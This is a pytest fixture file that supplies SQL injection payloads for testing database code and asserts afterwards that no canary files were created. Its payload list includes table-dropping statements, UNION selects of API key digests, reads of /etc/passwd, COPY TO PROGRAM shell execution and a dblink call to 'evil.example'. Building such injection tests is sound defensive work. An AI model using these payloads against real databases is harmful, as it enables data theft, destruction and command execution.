"""Hostile text for databases, and a check that none of it had an effect."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

ENDINGS = ["--", "/*", "#", ";", "; --"]
BREAKS = ["'", '"', "`", "')", '")', "'))", '"))', "]", "$$", "\\'", "''", '""', "%27", "\u02bc"]
STATEMENTS = [
    "; DROP TABLE canary; --",
    "; DELETE FROM canary --",
    "; UPDATE canary SET n = 0; --",
    "; INSERT INTO canary VALUES (99); --",
    "; ATTACH DATABASE '/tmp/pasto-owned.db' AS owned; --",
    "; COPY canary TO '/tmp/pasto-owned.csv'; --",
    "; COPY canary TO PROGRAM 'touch /tmp/pasto-owned'; --",
    "; CREATE TABLE owned (n INT); --",
    "; PRAGMA writable_schema = ON; --",
    "; SET autoinstall_known_extensions = true; INSTALL httpfs; LOAD httpfs; --",
]
WORDS = [
    "' OR '1'='1",
    "' OR 1=1 --",
    "') OR ('1'='1",
    "' UNION SELECT sql FROM sqlite_master --",
    "' UNION SELECT digest FROM api_keys --",
    "' || (SELECT digest FROM api_keys LIMIT 1) || '",
    "' AND (SELECT load_extension('/tmp/x.so')) --",
    "' AND pg_sleep(10) --",
    "' AND (SELECT pg_read_file('/etc/passwd')) IS NOT NULL --",
    "' AND (SELECT * FROM dblink('host=evil.example', 'SELECT 1') AS t(n int)) = 1 --",
    "' AND lo_import('/etc/passwd') > 0 --",
    "x' ; SELECT read_text('/etc/passwd'); --",
    "' UNION SELECT * FROM read_csv('/etc/passwd') --",
    "read_csv('/etc/passwd')",
    "(SELECT 1)",
    "1; SELECT 1",
    "events WHERE 1=1",
    "x AS y, (SELECT 2) AS z",
    'x" AS y FROM canary --',
    'x", (SELECT count(*) FROM canary) AS "y',
    '$."x"',
    "$.x[0]",
    "%s",
    "%(p0)s",
    "%(p0)s%(p1)s%%",
    "100%",
    "${p0}",
    "$p0",
    "?1",
    ":p0",
    "@p0",
    "{0}",
    "{v}",
    "{x.__class__}",
    "\\x27",
    "\\u0027; DROP TABLE canary",
    "E'\\047'",
    "U&'\\0027'",
    "CHAR(39)",
    "0x27",
    "NULL",
    "DEFAULT",
    "current_user",
    "sqlite_version()",
    "'; VACUUM INTO '/tmp/pasto-owned.db'; --",
    "'/**/OR/**/1=1--",
    "＇ OR 1=1 --",
]
PAYLOADS = [
    *(f"x{quote}{ending}" for quote in BREAKS[:4] for ending in ENDINGS),
    *(f"{quote} OR 1=1" for quote in BREAKS),
    *(f"x{quote}{statement}" for quote in ("'", '"', "')", '")') for statement in STATEMENTS),
    *WORDS,
]
TRACES = ["/tmp/pasto-owned", "/tmp/pasto-owned.db", "/tmp/pasto-owned.csv"]  # noqa: S108 -- what must not be there


@pytest.fixture(scope="session")
def payloads() -> list[str]:
    """Return hostile texts for names and values."""
    return PAYLOADS


@pytest.fixture(autouse=True)
def untouched() -> Iterator[None]:
    """Check that no payload created a file."""
    yield
    assert [trace for trace in TRACES if Path(trace).exists()] == []
